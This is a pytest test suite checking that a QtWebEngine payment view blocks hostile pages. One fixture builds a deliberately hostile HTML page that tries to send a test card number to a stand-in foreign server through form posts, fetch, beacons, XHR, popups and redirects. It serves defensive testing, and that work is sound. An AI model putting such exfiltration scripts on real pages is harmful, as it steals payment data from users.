"""The payment web view under attack (WEB-1..WEB-4, WEB-6, WEB-7), in real QtWebEngine offscreen."""

from __future__ import annotations

import asyncio
import gc
import threading
import time
from collections.abc import Callable, Coroutine, Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineProfile, QWebEngineSettings
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from terminal.gateways.base import Challenge
from terminal.sim.runner import serve_app
from terminal.ui.navigation import origin_of
from terminal.ui.page_driver import run_js, wait_for_js
from terminal.ui.web_view import PaymentWebView
from tests.support.tls import self_signed, serve_tls

pytestmark = pytest.mark.webengine

WAIT_S = 15.0
SENTINEL = "SECRET-PAGE-CONTENT-7f3a"


# -- servers ---------------------------------------------------------------------------------------
class Counting:
    """Wraps an ASGI app and records every HTTP request that reaches it (method, path)."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app
        self.hits: list[tuple[str, str]] = []
        self._lock = threading.Lock()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] in ("http", "websocket"):
            with self._lock:
                self.hits.append((scope.get("method", "WS"), scope["path"]))
        await self.app(scope, receive, send)


def foreign_app() -> Starlette:
    async def anything(_request: Request) -> Response:
        return HTMLResponse(f"<h1>FOREIGN {SENTINEL}</h1>", headers={"access-control-allow-origin": "*"})

    methods = ["GET", "POST", "PUT", "OPTIONS", "HEAD"]
    return Starlette(routes=[Route("/{path:path}", anything, methods=methods)])


FEATURES = """<!doctype html><html><body><h1 id="ready">features</h1>
<a id="dl" href="/download" download>file</a>
<script>
window.results = {};
navigator.geolocation.getCurrentPosition(
    function(){ window.results.geo = "granted"; },
    function(e){ window.results.geo = "denied:" + e.code; });
navigator.mediaDevices.getUserMedia({video: true}).then(
    function(){ window.results.camera = "granted"; },
    function(e){ window.results.camera = "denied:" + e.name; });
Notification.requestPermission().then(function(p){ window.results.notify = p; });
</script></body></html>"""


def allowed_app(foreign: str) -> Starlette:
    hostile = f"""<!doctype html><html><head><title>hostile</title>
<link rel="stylesheet" href="{foreign}/style.css">
<script src="{foreign}/script.js"></script></head>
<body><h1 id="ready">allowed page</h1>
<iframe src="{foreign}/frame"></iframe>
<img src="{foreign}/x.png">
<form id="leak" method="post" action="{foreign}/form"><input name="pan" value="4111111111111111"></form>
<script>
window.results = {{}};
fetch("{foreign}/fetch", {{mode: "no-cors"}}).then(function(){{ window.results.fetch = "ok"; }},
    function(){{ window.results.fetch = "failed"; }});
try {{ navigator.sendBeacon("{foreign}/beacon", "x"); }} catch (e) {{}}
var x = new XMLHttpRequest(); x.open("GET", "{foreign}/xhr"); x.send();
var w = window.open("{foreign}/popup");
window.results.popup = (w === null || w === undefined) ? "null" : "opened";
setTimeout(function(){{ document.getElementById("leak").submit(); }}, 600);
setTimeout(function(){{ window.location = "{foreign}/nav"; }}, 1000);
</script></body></html>"""
    returning = """<!doctype html><html><body><h1 id="ready">card page</h1>
<form method="post" action="/return/x"><input name="token" value="tok_1"><button>Pay</button></form>
</body></html>"""

    async def page(_request: Request) -> Response:
        return HTMLResponse(hostile)

    async def form(_request: Request) -> Response:
        return HTMLResponse(returning)

    async def back(request: Request) -> Response:
        await request.body()
        return HTMLResponse("<h1>returned</h1>")

    async def bounce(_request: Request) -> Response:
        return RedirectResponse(f"{foreign}/redirected", status_code=302)

    async def features(_request: Request) -> Response:
        return HTMLResponse(FEATURES)

    async def download(_request: Request) -> Response:
        disposition = {"content-disposition": 'attachment; filename="card.txt"'}
        return PlainTextResponse(SENTINEL, headers=disposition)

    async def bounce_page(_request: Request) -> Response:
        script = (
            '<script>fetch("/bounce").catch(function(){});'
            f' fetch("{foreign}/direct").catch(function(){{}});</script>'
        )
        return HTMLResponse(f'<!doctype html><html><body><h1 id="ready">bounce</h1>{script}</body></html>')

    return Starlette(
        routes=[
            Route("/page", page),
            Route("/form", form),
            Route("/return/{rest:path}", back, methods=["GET", "POST"]),
            Route("/bounce", bounce),
            Route("/bounce-page", bounce_page),
            Route("/features", features),
            Route("/download", download),
        ]
    )


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[str, str, Counting, Counting]]:
    foreign = Counting(foreign_app())
    foreign_url, stop_foreign = serve_app(foreign)
    allowed = Counting(allowed_app(foreign_url))
    allowed_url, stop_allowed = serve_app(allowed)
    try:
        yield allowed_url, foreign_url, allowed, foreign
    finally:
        stop_allowed()
        stop_foreign()


# -- views -----------------------------------------------------------------------------------------
class Recorder:
    """The view's signals, as lists."""

    def __init__(self, view: PaymentWebView) -> None:
        self.returned: list[str] = []
        self.blocked: list[str] = []
        self.failed: list[str] = []
        view.returned.connect(self.returned.append)
        view.blocked.connect(self.blocked.append)
        view.load_failed.connect(self.failed.append)


def close_view(qloop: asyncio.AbstractEventLoop, view: PaymentWebView) -> None:
    view.close_page()
    view.close()
    view.deleteLater()
    qloop.run_until_complete(asyncio.sleep(0.2))


@pytest.fixture
def views(qloop: asyncio.AbstractEventLoop) -> Iterator[Callable[..., tuple[PaymentWebView, Recorder]]]:
    made: list[PaymentWebView] = []

    def make(challenge: Challenge, *, allow_loopback_http: bool = True) -> tuple[PaymentWebView, Recorder]:
        view = PaymentWebView(challenge, allow_loopback_http=allow_loopback_http)
        recorder = Recorder(view)
        view.resize(800, 600)
        view.show()
        made.append(view)
        return view, recorder

    yield make
    for view in made:
        close_view(qloop, view)
    made.clear()
    gc.collect()


def run(qloop: asyncio.AbstractEventLoop, coro: Coroutine[Any, Any, Any]) -> Any:
    return qloop.run_until_complete(asyncio.wait_for(coro, WAIT_S + 5))


async def until(condition: Callable[[], object], what: str, timeout: float = WAIT_S) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


def challenge_for(allowed: str, path: str) -> Challenge:
    return Challenge(
        return_url_prefix=f"{allowed}/return",
        allowed_origins=frozenset({allowed}),
        url=f"{allowed}{path}",
    )


# -- tests -----------------------------------------------------------------------------------------
def test_hostile_page_reaches_no_foreign_host(
    qloop: asyncio.AbstractEventLoop, servers: tuple[str, str, Counting, Counting], views: Any
) -> None:
    allowed, foreign, allowed_hits, foreign_hits = servers
    foreign_hits.hits.clear()
    view, recorder = views(challenge_for(allowed, "/page"))

    async def scenario() -> Any:
        view.load()
        await wait_for_js(view.web_page(), "document.getElementById('ready') !== null", timeout=WAIT_S)
        await asyncio.sleep(2.5)  # past the page's 0.6 s form post and 1 s window.location
        return await run_js(view.web_page(), "JSON.stringify(window.results || null)")

    results = run(qloop, scenario())
    assert foreign_hits.hits == []
    foreign_origin = origin_of(foreign)
    assert foreign_origin in view.blocked_urls
    assert foreign_origin in recorder.blocked  # audited through the signal as well
    assert '"popup":"null"' in results  # window.open did nothing
    assert view.web_page().url().toString() == f"{allowed}/page"
    assert ("GET", "/page") in allowed_hits.hits
    assert recorder.returned == []


def test_redirects_to_a_foreign_host_are_blocked(
    qloop: asyncio.AbstractEventLoop, servers: tuple[str, str, Counting, Counting], views: Any
) -> None:
    allowed, foreign, _allowed_hits, foreign_hits = servers
    foreign_hits.hits.clear()
    bounced, _ = views(challenge_for(allowed, "/bounce"))  # main frame: a 302 to the foreign host
    fetcher, _ = views(challenge_for(allowed, "/bounce-page"))  # fetch() that is redirected there

    async def scenario() -> None:
        bounced.load()
        fetcher.load()
        await wait_for_js(fetcher.web_page(), "document.getElementById('ready') !== null", timeout=WAIT_S)
        await until(lambda: origin_of(foreign) in bounced.blocked_urls, "the blocked redirect")
        await asyncio.sleep(1.0)

    run(qloop, scenario())
    assert foreign_hits.hits == []
    assert origin_of(foreign) in fetcher.blocked_urls
    assert not bounced.web_page().url().toString().startswith(foreign)


def test_return_url_is_reported(
    qloop: asyncio.AbstractEventLoop, servers: tuple[str, str, Counting, Counting], views: Any
) -> None:
    allowed, _foreign, _allowed_hits, foreign_hits = servers
    view, recorder = views(challenge_for(allowed, "/form"))

    async def scenario() -> None:
        view.load()
        await wait_for_js(view.web_page(), "document.querySelector('form') !== null", timeout=WAIT_S)
        await run_js(view.web_page(), "document.querySelector('form').submit(); true;")
        await until(lambda: recorder.returned, "the returned signal")

    run(qloop, scenario())
    assert recorder.returned == [f"{allowed}/return/x"]
    assert recorder.blocked == [] and view.blocked_urls == []
    assert foreign_hits.hits == []


def test_permissions_and_downloads_are_refused(
    qloop: asyncio.AbstractEventLoop, servers: tuple[str, str, Counting, Counting], views: Any
) -> None:
    allowed = servers[0]
    view, recorder = views(challenge_for(allowed, "/features"))
    done = "window.results && window.results.geo && window.results.camera && window.results.notify"

    async def scenario() -> Any:
        view.load()
        results = await wait_for_js(view.web_page(), f"({done}) ? JSON.stringify(window.results) : null")
        await run_js(view.web_page(), "document.getElementById('dl').click(); true;")
        await until(lambda: "a download" in recorder.blocked, "the refused download")
        return results

    results = run(qloop, scenario())
    assert '"geo":"denied:1"' in results  # PERMISSION_DENIED
    assert '"camera":"denied:' in results
    assert '"notify":"denied"' in results
    assert "granted" not in results
    assert view.web_page().url().toString() == f"{allowed}/features"


def test_profile_and_settings_are_hardened(views: Any) -> None:
    challenge = challenge_for("https://pay.gateway.test", "/3ds")
    view, _ = views(challenge, allow_loopback_http=False)
    other, _ = views(challenge, allow_loopback_http=False)
    profile = view.profile()
    assert profile.isOffTheRecord()
    assert profile.storageName() == ""
    assert profile is not QWebEngineProfile.defaultProfile()
    assert profile is not other.profile()  # one profile per view
    assert profile.persistentCookiesPolicy() == QWebEngineProfile.PersistentCookiesPolicy.NoPersistentCookies
    assert profile.httpCacheType() == QWebEngineProfile.HttpCacheType.MemoryHttpCache
    page = view.web_page()
    assert page.profile() is profile
    settings = page.settings()
    attribute = QWebEngineSettings.WebAttribute
    for off in (
        attribute.JavascriptCanOpenWindows,
        attribute.JavascriptCanAccessClipboard,
        attribute.JavascriptCanPaste,
        attribute.LocalContentCanAccessRemoteUrls,
        attribute.LocalContentCanAccessFileUrls,
        attribute.PluginsEnabled,
        attribute.AllowRunningInsecureContent,
        attribute.NavigateOnDropEnabled,
    ):
        assert settings.testAttribute(off) is False, off
    assert (
        settings.unknownUrlSchemePolicy()
        == QWebEngineSettings.UnknownUrlSchemePolicy.DisallowUnknownUrlSchemes
    )
    assert page.webChannel() is None
    assert page.createWindow(QWebEnginePage.WebWindowType.WebBrowserTab) is None
    assert view.view.contextMenuPolicy() == Qt.ContextMenuPolicy.NoContextMenu


def test_self_signed_certificate_fails_closed(
    qloop: asyncio.AbstractEventLoop, tmp_path: Path, views: Any
) -> None:
    async def secret(_request: Request) -> Response:
        return PlainTextResponse(SENTINEL)

    tls_app = Counting(Starlette(routes=[Route("/", secret)]))
    base, stop = serve_tls(tls_app, *self_signed(tmp_path))
    try:
        view, recorder = views(
            Challenge(
                return_url_prefix=f"{base}/return",
                allowed_origins=frozenset({base}),
                url=f"{base}/",
            ),
            allow_loopback_http=False,
        )

        async def scenario() -> str:
            view.load()
            await until(lambda: recorder.failed, "load_failed")
            await asyncio.sleep(0.5)
            return str(await run_js(view.web_page(), "document.body ? document.body.innerText : ''"))

        text = run(qloop, scenario())
    finally:
        stop()
    assert len(recorder.failed) >= 1
    assert "certificate" in recorder.failed[0].lower()
    assert SENTINEL not in text
    assert tls_app.hits == []  # the handshake was refused before any request
    assert recorder.returned == []


async def show_form(view: PaymentWebView) -> None:
    view.load()
    await wait_for_js(view.web_page(), "document.querySelector('form') !== null", timeout=WAIT_S)


def test_closing_a_loaded_view_does_not_crash(
    qloop: asyncio.AbstractEventLoop, servers: tuple[str, str, Counting, Counting]
) -> None:
    allowed = servers[0]
    view = PaymentWebView(challenge_for(allowed, "/form"), allow_loopback_http=True)
    view.show()
    run(qloop, show_form(view))
    view.close_page()
    view.close_page()  # twice is harmless
    view.close()
    view.deleteLater()
    del view
    gc.collect()
    qloop.run_until_complete(asyncio.sleep(0.5))
    gc.collect()
    # A fresh view still works afterwards.
    again = PaymentWebView(challenge_for(allowed, "/form"), allow_loopback_http=True)
    again.show()
    try:
        run(qloop, show_form(again))
    finally:
        close_view(qloop, again)
        del again
        gc.collect()
